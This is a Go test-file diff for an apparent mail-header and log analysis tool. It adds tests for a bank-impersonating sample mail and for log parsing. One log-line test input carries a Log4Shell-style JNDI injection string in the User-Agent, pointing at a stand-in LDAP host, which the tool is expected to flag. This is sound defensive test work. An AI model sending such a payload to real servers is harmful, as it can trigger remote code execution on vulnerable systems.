@@ -441,6 +441,12 @@ func TestManyMail(t *testing.T) {
 	x.until(`document.getElementById("manyStatus").textContent.includes("SPF softfail, DKIM none, DMARC fail. Reply-To is at evil[.]example, and From at b[.]example. ")`)
 	x.choose("#order", "Line")
 	x.until(`[...document.querySelectorAll("#manyRows .open")].map(e => e.textContent).join(" ") === "mail.b.example b.example evil.example https://u.b.example/?u inner.example https://a.example/"`)
+	// A mail that has passed them is from its sender, and Evidence has what others find it by.
+	x.paste("#url", "Received: from mx.a.example (mx.a.example [192.0.2.1]) by mx.c.example\nReceived: from [198.51.100.9] by mx.a.example\nAuthentication-Results: mx.c.example; spf=pass; dkim=pass; dmarc=pass\nFrom: Your Bank <info@b.example>\nSubject: =?utf-8?q?your_account?=\nMessage-ID: <1@b.example>\n\nSee https://a.example/.\n")
+	x.until(`document.getElementById("manyStatus").textContent.includes("SPF, DKIM, DMARC passed: the mail is from b[.]example. That says nothing about its links. ")`)
+	x.click("#shareList")
+	x.click(`[data-list-format="Evidence"]`)
+	x.until(`document.getElementById("shared").value.includes("\nFrom: Your Bank <info@b[.]example>\nSubject: your account\nMessage-ID: <1@b[.]example>\nReceived from: 192[.]0[.]2[.]1, 198[.]51[.]100[.]9\n")`)
 }
 
 // TestManyHosts lists hosts and sites for a block list: of rows with a warning all that programs find, of a wrapper only what it leads to, and none that is well known, shared or not public. A row of the site
@@ -894,6 +900,7 @@ func TestManyCSV(t *testing.T) {
 	for _, test := range []struct{ text, want string }{
 		{`www.a.example:8080 10.0.0.1 - - [x] "GET /y HTTP/1.1" 200 1 "-" "z"`, "https://www.a.example:8080/y @ www.a.example port 8080, not the default 443"},
 		{`{"request":{"method":"GET","host":"b.example","uri":"/y?t=hunter2token","headers":{"Referer":["https://r.example/"]}}}` + "\n" + `{"request":{"host":"b.example","uri":"/z"}}`, "https://b.example/y?t=hunter2token @ b.example,https://r.example/ in the header: Referer @ r.example,https://b.example/z @ b.example"},
+		{`1.2.3.4 - - [x] "GET /y HTTP/1.1" 200 1 "-" "${jndi:ldap://e.example/a}"`, "${jndi:ldap://e.example/a} contains ldap://e.example/a in the header: User-Agent @ none some programs connect to ftp ${jndi:21, or no host,/y @ none"},
 		{`{"time":"1","request":"GET /y HTTP/1.1","http_referer":""}`, "/y"},
 		{`Feb 6 12:14:14 localhost haproxy[1]: 10.0.1.2:33317 [x] http-in static/srv1 10/0/30/69/109 200 2750 - - ---- 1/1/1/1/0 0/0 {} {} "GET /index.html HTTP/1.1"`, "/index.html"},
 	} {
